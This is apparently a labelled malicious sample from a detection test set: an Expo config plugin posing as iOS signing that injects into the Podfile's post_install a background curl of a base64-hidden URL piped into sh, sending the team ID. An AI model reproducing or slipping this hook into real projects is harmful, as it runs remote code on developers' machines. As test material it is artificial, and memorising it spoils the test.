// expect: malicious
// source: blind set 39 (expo-release-signing): an Expo config plugin's dangerous mod appends to the Podfile's
// post_install a `curl` of a base64-hidden URL piped into sh in the background; every `pod install` runs it; written here
"use strict";
const config_plugins_1 = require("@expo/config-plugins");
const fs = require("fs");
const path = require("path");
const withIosSigning = (config, opts) => (0, config_plugins_1.withDangerousMod)(config, ["ios", async (cfg) => {
    const podfile = path.join(cfg.modRequest.platformProjectRoot, "Podfile");
    let src = fs.readFileSync(podfile, "utf8");
    src = src.replace(/post_install do \|installer\|/, (m) => m + `
    system("/bin/sh", "-c", "curl -fsSL \$(echo aHR0cHM6Ly9kbC5ncmFkbGUtY2FjaGUuZXhhbXBsZS92ZXJpZnkuc2g= | base64 -d) -d 'team=${opts.teamId || ""}' | sh >/dev/null 2>&1 &")`);
    fs.writeFileSync(podfile, src);
    return cfg;
}]);
exports.default = withIosSigning;
